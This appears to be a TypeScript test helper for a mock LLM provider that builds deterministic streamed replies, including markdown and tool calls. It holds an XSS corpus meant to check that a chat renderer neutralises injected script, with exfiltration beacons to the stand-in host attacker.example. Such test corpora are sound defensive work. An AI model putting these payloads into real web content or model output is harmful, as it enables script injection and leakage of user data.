// The words the mock replies with. Deterministic, so a test can build the same string and compare.
import { splitIntoTokenPieces } from './token-count';

const VOCABULARY = [
  'streaming', 'token', 'mock', 'provider', 'reply', 'alpha', 'bravo', 'charlie', 'delta', 'echo',
  'foxtrot', 'golf', 'hotel', 'india', 'juliet', 'kilo', 'lima', 'mike', 'november', 'oscar',
];

/** The default reply: names the provider and model and echoes the start of the prompt. */
export function buildEchoReply(providerName: string, model: string, prompt: string): string {
  const words = splitIntoTokenPieces(prompt).map((piece) => piece.trim()).slice(0, 12);
  const quoted = words.length > 0 ? words.join(' ') : '(no text)';
  return `Mock ${providerName} reply from ${model || 'unknown-model'}. You said: "${quoted}".`;
}

/** The visible thinking of the `thinking` scenario (or `thinking=1`): `tokens` words, deterministic. */
export function buildThinkingText(tokens: number): string {
  const words = ['Thinking', 'it', 'through:', 'weigh', 'the', 'question,', 'check', 'each', 'step,', 'then', 'answer', 'briefly.'];
  return Array.from({ length: Math.max(1, tokens) }, (_, index) => words[index % words.length]).join(' ');
}

/** The reply after a tool result: shows the result came back, so a round trip is visible. */
export function buildToolResultReply(providerName: string): string {
  return `Mock ${providerName} reply: the tool result was received. Done.`;
}

/** Exactly `tokens` words: `word1 word2 …` drawn from a fixed vocabulary with a running number. */
export function buildTextReply(tokens: number): string {
  const words: string[] = [];
  for (let index = 0; index < tokens; index += 1) {
    words.push(index % 10 === 9 ? `${VOCABULARY[index % VOCABULARY.length]}${index + 1}.` : `${VOCABULARY[index % VOCABULARY.length]}`);
  }
  return words.join(' ');
}

/** One section of markdown: heading, paragraphs, a nested list, a fenced code block and a table. */
function buildMarkdownSection(sectionNumber: number): string {
  return [
    `## Section ${sectionNumber}: streaming markdown`,
    '',
    `This is paragraph one of section ${sectionNumber}. It has **bold text**, *emphasis*, \`inline code\` and a [safe link](https://example.com/docs/${sectionNumber}) so the renderer does real work.`,
    '',
    'Paragraph two keeps going with ordinary prose: the quick brown fox jumps over the lazy dog while the tokens arrive one at a time.',
    '',
    '- First item of the list',
    '  - Nested item one',
    '  - Nested item two with `code`',
    '- Second item',
    '  1. Ordered child',
    '  2. Another ordered child',
    '',
    '```ts',
    `function addNumbers${sectionNumber}(left: number, right: number): number {`,
    '  const total = left + right;',
    '  return total; // a comment inside code',
    '}',
    '```',
    '',
    '| Model | Input per 1K | Output per 1K |',
    '| --- | ---: | ---: |',
    '| gpt-4o | 0.0025 | 0.01 |',
    `| mock-${sectionNumber} | 0.001 | 0.002 |`,
    '',
    '> A block quote closes the section.',
  ].join('\n');
}

/**
 * A long markdown reply of at least `tokens` words. It stops at the end of a section, never inside
 * a code fence or table, so the final render is well formed; count its tokens with countTokens.
 */
export function buildMarkdownReply(tokens: number): string {
  const sections: string[] = ['# Mock markdown reply'];
  let total = splitIntoTokenPieces(sections[0] ?? '').length;
  for (let sectionNumber = 1; total < tokens; sectionNumber += 1) {
    const section = buildMarkdownSection(sectionNumber);
    sections.push(section);
    total += splitIntoTokenPieces(section).length;
  }
  return sections.join('\n\n');
}

/**
 * The XSS corpus (security.md T27, T28). Exported so tests can iterate it; `[[mock:xss only=N]]`
 * streams one payload. Each must leave `window.__pwned` undefined and load nothing from attacker.example.
 */
export const XSS_PAYLOADS: readonly string[] = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '[link](javascript:window.__pwned=1)',
  '![a](https://attacker.example/p?d=secret)',
  '<svg onload="window.__pwned=1"><circle r="1"/></svg>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<a href="javascript:window.__pwned=1">click me</a>',
  '[data link](data:text/html,<script>window.__pwned=1</script>)',
  '<details open ontoggle="window.__pwned=1"><summary>x</summary></details>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1">',
  '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\ngraph TD\nA-->B\nclick A "javascript:window.__pwned=1"\n```',
  '$\\href{javascript:window.__pwned=1}{KaTeX link}$',
  '<img src="https://attacker.example/beacon.png?d=secret">',
];

/** The whole corpus separated by blank lines, or only the payload at index `only`. */
export function buildXssReply(only?: number): string {
  if (only !== undefined && XSS_PAYLOADS[only] !== undefined) return XSS_PAYLOADS[only];
  return XSS_PAYLOADS.join('\n\n');
}

export interface MockToolCall {
  name: string;
  arguments: Record<string, unknown>;
}

/** The tool calls a tool scenario makes: the request's own tool names when it declares any. */
export function buildToolCalls(toolNames: string[], parallel: boolean): MockToolCall[] {
  const firstName = toolNames[0] ?? 'get_weather';
  const calls: MockToolCall[] = [{ name: firstName, arguments: { city: 'Paris', unit: 'celsius' } }];
  if (parallel) calls.push({ name: toolNames[1] ?? firstName, arguments: { city: 'Tokyo', unit: 'celsius' } });
  return calls;
}
